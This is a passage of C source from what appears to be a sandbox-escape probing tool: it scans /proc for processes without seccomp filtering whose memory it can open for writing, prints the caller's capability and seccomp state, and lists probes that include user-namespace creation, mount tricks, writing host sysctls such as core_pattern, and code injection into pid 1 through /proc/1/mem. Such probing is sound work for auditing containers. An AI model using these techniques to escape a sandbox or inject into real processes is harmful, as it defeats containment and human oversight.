    rf_err("unfiltered", errno, "/proc");
    return 0;
  }
  struct dirent *e;
  int seen = 0;
  while ((e = readdir(d))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9')
      continue;
    char path[300], line[256], name[64] = "?";
    int seccomp = -1;
    snprintf(path, sizeof(path), "/proc/%s/status", e->d_name);
    FILE *f = fopen(path, "re");
    if (!f)
      continue;
    while (fgets(line, sizeof(line), f)) {
      sscanf(line, "Name: %63s", name);
      sscanf(line, "Seccomp: %d", &seccomp);
    }
    fclose(f);
    seen++;
    if (seccomp == 2)
      continue;
    snprintf(path, sizeof(path), "/proc/%s/mem", e->d_name);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
      rf_ok("unfiltered-mem", "pid %s (%s) has seccomp mode %d and its memory is writable", e->d_name, name, seccomp);
      close(fd);
    } else {
      rf_info("unfiltered", "pid %s (%s) has seccomp mode %d; its memory: %s", e->d_name, name, seccomp,
              rf_errname(errno));
    }
  }
  closedir(d);
  rf_info("unfiltered", "%d processes visible", seen);
  return 0;
}

static int op_seccomp_status(char **a, int n) {
  (void)a;
  (void)n;
  FILE *f = fopen("/proc/self/status", "re");
  if (!f) {
    rf_err("status", errno, "/proc/self/status");
    return 0;
  }
  char line[256];
  while (fgets(line, sizeof(line), f)) {
    if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
        !strncmp(line, "Seccomp", 7)) {
      line[strcspn(line, "\n")] = '\0';
      rf_info("status", "%s", line);
    }
  }
  fclose(f);
  return 0;
}

const rf_op rf_kernel_ops[] = {
    {"surface", 1, op_surface, "GROUP|all  one probe per denied syscall, each in a child"},
    {"userns", 0, op_userns, "  unshare/clone/clone3 with CLONE_NEWUSER"},
    {"mount-tricks", 2, op_mount_tricks, "PROTECTED_FILE OUTSIDE_FILE  remount/umount/open_tree"},
    {"proc-sys", 0, op_proc_sys, "  host sysctls: open for write; core_pattern written back"},
    {"abi", 0, op_abi, "  forbidden calls via int 0x80 and x32"},
    {"pid1-inject", 2, op_pid1_inject, "PROTECTED_FILE HOST_SOCKET  run code in pid 1 via /proc/1/mem"},
    {"unfiltered", 0, op_unfiltered, "  visible processes without seccomp whose memory is writable"},
    {"status", 0, op_seccomp_status, "  capabilities, no_new_privs, seccomp mode"},
    {NULL, 0, NULL, NULL},
};
